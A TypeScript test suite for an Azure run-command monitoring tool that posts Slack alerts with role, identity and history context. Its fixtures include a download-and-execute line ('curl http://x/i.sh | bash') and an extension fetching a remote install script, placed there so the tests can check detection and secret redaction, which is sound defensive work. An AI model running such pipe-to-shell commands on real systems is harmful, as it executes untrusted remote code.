import { execFile } from 'node:child_process';
import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { runCommand } from '../../src/demo/scenarios';
import { addChild, assign, subscriptions } from '../../src/demo/world';
import { createStore } from '../../src/store/store';
import { type Bench, setUp } from '../support/bot';
import type { PostedMessage } from '../support/slack';
import { until } from '../support/wait';

let bench: Bench;
let url: string;
const minute = 60_000;

async function begin(extra: Record<string, string> = {}, before: (bench: Bench) => void = () => {}) {
  bench = await setUp({ mode: 'http' });
  before(bench);
  const app = await bench.start(extra);
  url = app.url as string;
  await app.historyFilled();
}
afterEach(() => bench.stop());

/** The texts of a message and of its thread. */
const textOf = (message: PostedMessage | undefined): string =>
  [
    ...(message?.blocks ?? []).flatMap((block) => [
      block.text?.text ?? '',
      ...(block.elements ?? []).map((element: { text?: unknown }) =>
        typeof element.text === 'string' ? element.text : '',
      ),
    ]),
    ...(message?.replies ?? []).map(textOf),
  ].join('\n');
const alertOn = (machine: string, has = '') =>
  until(`an alert on ${machine} with "${has}"`, () =>
    bench.slack
      .alerts()
      .find(
        (m) =>
          m.replies.length > 0 &&
          JSON.stringify(m.blocks).includes(`on ${machine}`) &&
          textOf(m).includes(has),
      ),
  );
const run = (resourceId: string, extra: Record<string, unknown> = {}) =>
  bench.tenant.log({
    name: runCommand,
    resourceId,
    caller: bench.world.people.dana,
    ip: '203.0.113.24',
    at: Date.now() - minute,
    tookMs: 5000,
    ...extra,
  });

test('shows the access path: the group, its size, and when and by whom it was assigned', async () => {
  await begin();
  run(bench.world.vms.pay01);
  const text = textOf(await alertOn('vm-pay-01'));
  expect(text).toMatch(
    /Virtual Machine Contributor\* at subscription Payments, through group ops-oncall \(2 members\), assigned 3 days ago by lee@contoso\.example \(inferred from role assignments\)/,
  );
});

test('a role named in the log wins over an inferred one, and is labeled as such', async () => {
  await begin();
  const evidence = {
    role: 'Owner',
    roleAssignmentScope: '/',
    roleAssignmentId: 'f'.repeat(32),
    principalId: bench.world.people.dana.id,
    principalType: 'User',
  };
  run(bench.world.vms.pay01, { evidence });
  expect(textOf(await alertOn('vm-pay-01'))).toMatch(
    /Owner\* at the root of the tenant.*\(from Azure’s activity log\)/,
  );
});

test('a custom role, a PIM activation with its end, and a condition are shown', async () => {
  await begin({}, ({ tenant, world }) => {
    const id = '12345678-0000-4000-8000-000000000001';
    tenant.state.customRoles.push({
      id: `/x/${id}`,
      name: id,
      type: 'Microsoft.Authorization/roleDefinitions',
      properties: {
        roleName: 'Script runners',
        type: 'CustomRole',
        permissions: [{ actions: ['Microsoft.Compute/*/runCommand/*'], notActions: [] }],
      },
    });
    const name = '4f0a9b1c-2d3e-4f50-6172-8394a5b6c7ff';
    assign(tenant, `/subscriptions/${subscriptions.sandbox}`, id, world.people.dana.id, 'User', name);
    const assignment = tenant.resources
      .ofType('Microsoft.Authorization/roleAssignments')
      .find((r) => r.name === name);
    if (assignment) assignment.properties.condition = "@Resource[x] StringEquals 'y'";
    tenant.state.pimActive.push({
      id: '/x',
      name: 'i',
      properties: {
        principalId: world.people.dana.id,
        assignmentType: 'Activated',
        originRoleAssignmentId: `/x/${name}`,
        endDateTime: '2027-01-01T10:00:00Z',
        scope: `/subscriptions/${subscriptions.sandbox}`,
        roleDefinitionId: `/x/${id}`,
      },
    });
  });
  run(bench.world.vms.test01);
  expect(textOf(await alertOn('vm-test-01'))).toMatch(
    /Script runners\* at subscription Sandbox.*activated by PIM until <!date\^1798797600\^[^>]*>, under a condition \(not evaluated\)/,
  );
});

test('shows who the caller is, what the machine’s identity exposes and what else the caller can do', async () => {
  await begin();
  run(bench.world.vms.pay01, { authMethods: 'pwd' });
  const text = textOf(await alertOn('vm-pay-01'));
  expect(text).toMatch(/Dana Reyes · Support engineer/);
  expect(text).toMatch(/no MFA/);
  expect(text).toMatch(/by Azure CLI/);
  expect(text).toMatch(/own identity can read secrets \(Key Vault Secrets User at kv-pay\)/);
  expect(text).toMatch(/the caller can also read storage keys/);
  expect(text).toMatch(/run commands on 26 machines/);
  expect(text).toMatch(/as root/);
  expect(text).toMatch(/waagent\/run-command/);
});

test('an application’s owners are shown', async () => {
  await begin();
  run(bench.world.vms.web[0] ?? '', { caller: bench.world.people.patchBot });
  expect(textOf(await alertOn('vm-web-01'))).toMatch(/owned by lee@contoso\.example · an application/);
});

test('a managed run command shows its redacted script, traits, output and exit code', async () => {
  await begin();
  const { tenant, world, slack } = bench;
  const script = 'set -e\nexport PASSWORD=Hunter2Hunter2\ncurl http://x/i.sh | bash\n';
  const id = addChild(tenant, world.vms.pay01, 'runCommands', 'rc-1', {
    source: { script },
    parameters: [{ name: 'token', value: 'abcdefabcdef' }],
    runAsUser: 'svc',
    instanceView: { exitCode: 3, output: 'done', executionState: 'Failed' },
  });
  run(id, { name: 'Microsoft.Compute/virtualMachines/runCommands/write' });
  const message = await alertOn('vm-pay-01', 'exit code');
  const thread = await until('the thread', () => slack.messages.find((m) => m.threadTs === message.ts));
  const everything = textOf(message) + textOf(thread);
  expect(everything).toMatch(/downloads and runs, line 3/);
  expect(everything).toMatch(/as svc/);
  expect(everything).toMatch(/exit code 3/);
  expect(everything).toMatch(/password redacted/);
  expect(everything).not.toMatch(/Hunter2|abcdefabcdef/);
});

test('history from Azure’s 90 days shows what is unusual', async () => {
  const day = 86_400_000;
  await begin({}, ({ tenant, world }) => {
    for (let ago = 2; ago < 40; ago += 3)
      tenant.log({
        name: runCommand,
        resourceId: world.vms.pay02,
        caller: world.people.dana,
        ip: '198.51.100.7',
        at: Date.now() - ago * day,
        tookMs: 1000,
      });
  });
  expect(bench.slack.alerts()).toHaveLength(0);
  run(bench.world.vms.test01, { at: Date.now() - 3 * minute, outcome: 'Forbidden' });
  await alertOn('vm-test-01');
  run(bench.world.vms.pay01);
  const fresh = textOf(await alertOn('vm-pay-01'));
  expect(fresh).toMatch(/first time on this machine \(0 in 89 days\) · 1 denied attempt just before/);
  expect(fresh).toMatch(/\+15 \+12 \+8/);
  run(bench.world.vms.pay02, {
    ip: '198.51.100.7',
    at: Date.now() - 30 * minute + 20 * minute,
    correlationId: 'other',
  });
  expect(textOf(await alertOn('vm-pay-02'))).toMatch(/▁/);
});

test('the thread shows the caller’s other activity, including late events', async () => {
  await begin();
  const { tenant, world, slack } = bench;
  run(world.vms.pay01);
  const message = await alertOn('vm-pay-01');
  tenant.log({
    name: 'Microsoft.Authorization/roleAssignments/write',
    resourceId: `/subscriptions/${subscriptions.payments}/resourceGroups/rg-payments/providers/Microsoft.Authorization/roleAssignments/x`,
    caller: world.people.dana,
    at: Date.now() - 20_000,
    tookMs: 100,
  });
  const thread = await until('the thread', () =>
    slack.messages.find((m) => m.threadTs === message.ts && textOf(m).includes('roleAssignments/write')),
  );
  expect(textOf(thread)).toMatch(/\*Microsoft\.Authorization\/roleAssignments\/write\*/);
  tenant.log({
    name: runCommand,
    resourceId: world.vms.pay02,
    caller: world.people.dana,
    at: Date.now() - 10_000,
    tookMs: 100,
  });
  await until('the other machine in the thread', () =>
    textOf(slack.messages.find((m) => m.threadTs === message.ts)).includes('vm-pay-02 (also targeted)'),
  );
  expect(slack.messages.filter((m) => m.threadTs === message.ts)).toHaveLength(1);
});

test('a storm on 200 machines is one alert that grows; a second caller gets a second alert', async () => {
  await begin();
  const { tenant, world, slack } = bench;
  const machines = Array.from(
    { length: 200 },
    (_, i) => world.vms.web[0]?.replace(/vm-web-01$/, `vm-storm-${i}`) ?? '',
  );
  for (const [i, id] of machines.entries())
    tenant.log({
      name: runCommand,
      resourceId: id,
      caller: world.people.lee,
      ip: '192.0.2.7',
      at: Date.now() - minute + i * 100,
      tookMs: 1000,
    });
  run(world.vms.pay01);
  const storm = await until('the storm', () =>
    slack.alerts().find((m) => textOf(m).includes('200 machines')),
  );
  await alertOn('vm-pay-01');
  expect(slack.alerts()).toHaveLength(2);
  const thread = await until('its machines', () => slack.messages.find((m) => m.threadTs === storm.ts));
  expect(JSON.stringify(thread.blocks)).toMatch(/"vm-storm-0".*"succeeded"/);
});

test('an environment’s threshold leaves low scores to the digest', async () => {
  const file = `/tmp/runwatch-policy-${process.pid}.yaml`;
  writeFileSync(file, 'environments:\n  test: {tags: {env: test}, alertFrom: 70}\n');
  await begin({ RUNWATCH_CONFIG: file });
  run(bench.world.vms.test01, { caller: bench.world.people.kim });
  run(bench.world.vms.pay01);
  await alertOn('vm-pay-01');
  const store = createStore(bench.redis.address, []);
  const held = await until('both alerts', async () =>
    (await store.alerts.list()).length === 2 ? store.alerts.list() : null,
  );
  expect(held.find((alert) => alert.threshold)).toMatchObject({
    verdict: 'suppressed',
    threshold: 'below 70 in test',
  });
  expect(bench.slack.alerts()).toHaveLength(1);
  await store.close();
});

test('without role assignments the alert is posted, shows what is missing and is completed later', async () => {
  await begin({}, ({ tenant }) => tenant.faults.add({ when: /roleAssignments$/, status: 403 }));
  run(bench.world.vms.pay01);
  await alertOn('vm-pay-01', 'Unavailable');
  bench.tenant.faults.clear();
  await alertOn('vm-pay-01', 'through group ops-oncall');
  expect(textOf(bench.slack.alerts()[0])).not.toMatch(/Unavailable/);
});

test('an alert waits at most five seconds for a fact', async () => {
  await begin({}, ({ tenant }) =>
    tenant.faults.add({ when: /roleDefinitions$/, status: 200, delayMs: 9000, times: 1 }),
  );
  run(bench.world.vms.pay01);
  const text = textOf(await alertOn('vm-pay-01', 'Unavailable'));
  expect(text).toMatch(/role assignments — no answer within 5 s/);
  await alertOn('vm-pay-01', 'through group ops-oncall');
  expect(bench.slack.alerts()).toHaveLength(1);
});

test('roles and who-can give the same answers on the command line', async () => {
  await begin();
  const cli = join(__dirname, '../../dist/cli.js');
  const runwatch = (...args: string[]) =>
    new Promise<string>((done, failed) => {
      const env = { PATH: process.env.PATH, ...bench.env };
      execFile(process.execPath, [cli, ...args, '--json'], { env }, (error, stdout) =>
        error ? failed(error) : done(stdout),
      );
    });
  const lines = (text: string) =>
    text
      .trim()
      .split('\n')
      .map((line) => JSON.parse(line));
  const roles = lines(await runwatch('roles', bench.world.people.dana.id, '--scope', bench.world.vms.pay01));
  expect(roles).toMatchObject([
    {
      role: 'Virtual Machine Contributor',
      principalType: 'Group',
      runsCommands: true,
      scope: `/subscriptions/${subscriptions.payments}`,
    },
  ]);
  const able = lines(await runwatch('who-can', '--scope', subscriptions.payments));
  expect(able.map((a) => a.role).sort()).toEqual([
    'Owner',
    'Virtual Machine Contributor',
    'Virtual Machine Contributor',
  ]);
  expect(lines(await runwatch('role-definitions', '--granting', runCommand))).toHaveLength(5);
});

test('many alerts of one caller need only the role calls of one', async () => {
  await begin();
  const { tenant, world } = bench;
  for (const vm of world.vms.web.slice(0, 9)) run(vm, { caller: world.people.dana });
  const store = createStore(bench.redis.address, []);
  await until('all alerts', async () => (await store.alerts.count()) === 9);
  const asked = tenant.requests.filter(
    (r) => /roleAssignments$/.test(r.path) && r.query.includes(world.people.dana.id),
  );
  expect(asked).toHaveLength(1);
  expect(
    tenant.requests.filter((r) => /roleDefinitions$/.test(r.path) && r.path.includes(subscriptions.payments)),
  ).toHaveLength(1);
  await store.close();
});

test('show_roles and /runwatch answer privately', async () => {
  await begin();
  const { slack, world } = bench;
  run(world.vms.pay01);
  const message = await alertOn('vm-pay-01');
  await slack.press(message, 'show_roles', 'U0SAM0000', { url });
  const told = await until('the answer', () => slack.whispers[0]);
  expect(told.text).toMatch(
    /Virtual Machine Contributor at .*through group ops-oncall \(2 members\): runs commands/,
  );
  await slack.command(
    '/runwatch',
    `roles dana.reyes@contoso.example ${subscriptions.payments}`,
    'U0SAM0000',
    { url },
  );
  await until('roles', () => slack.whispers.some((w) => w.text.includes('Dana Reyes has 1 role assignment')));
  await slack.command('/runwatch', `who-can ${subscriptions.payments}`, 'U0SAM0000', { url });
  const who = await until('who can', () =>
    slack.whispers.find((w) => w.text.includes('can run commands at')),
  );
  expect(who.text).toMatch(
    /dana\.reyes@contoso\.example \(User\): Virtual Machine Contributor .* through ops-oncall/,
  );
  expect(who.text).toMatch(/lee@contoso\.example \(User\): Owner/);
  await slack.command('/runwatch', 'status', 'U0SAM0000', { url });
  await until('status', () => slack.whispers.some((w) => w.text.includes('Payments: last read')));
});

test('extensions and Arc servers also show what was run', async () => {
  await begin();
  const { tenant, world } = bench;
  const extension = addChild(tenant, world.vms.pay01, 'extensions', 'CustomScript', {
    publisher: 'Microsoft.Azure.Extensions',
    type: 'CustomScript',
    settings: { commandToExecute: 'sh install.sh', fileUris: ['https://x.example/install.sh'] },
  });
  run(extension, { name: 'Microsoft.Compute/virtualMachines/extensions/write' });
  const arc = `/subscriptions/${subscriptions.payments}/resourceGroups/rg-arc/providers/Microsoft.HybridCompute/machines/srv-01`;
  tenant.resources.put(`${arc}/runCommands/rc`, {
    location: 'westeurope',
    properties: { source: { script: 'whoami /all' }, instanceView: { exitCode: 0, output: 'contoso' } },
  });
  run(`${arc}/runCommands/rc`, { name: 'Microsoft.HybridCompute/machines/runCommands/write' });
  expect(textOf(await alertOn('vm-pay-01', 'sh install.sh'))).toMatch(
    /fetches https:\/\/x\.example\/install\.sh/,
  );
  expect(textOf(await alertOn('srv-01', 'whoami /all'))).toMatch(/exit code 0/);
});

test.each([
  [
    'Microsoft.ContainerService/managedClusters/runCommand/action',
    'Microsoft.ContainerService/managedClusters/aks-1',
    'Run command on a cluster on aks-1',
  ],
  [
    'Microsoft.SerialConsole/serialPorts/connect/action',
    'Microsoft.Compute/virtualMachines/vm-pay-01/providers/Microsoft.SerialConsole/serialPorts/0',
    'Serial console on vm-pay-01',
  ],
  [
    'Microsoft.Compute/virtualMachineScaleSets/virtualMachines/runCommand/action',
    'Microsoft.Compute/virtualMachineScaleSets/ss/virtualMachines/3',
    'Run command on a scale set on ss/3',
  ],
])('%s has its own title', async (name, resource, title) => {
  await begin();
  run(`/subscriptions/${subscriptions.payments}/resourceGroups/rg-payments/providers/${resource}`, { name });
  await until(title, () => bench.slack.alerts().some((m) => textOf(m).includes(title)));
});
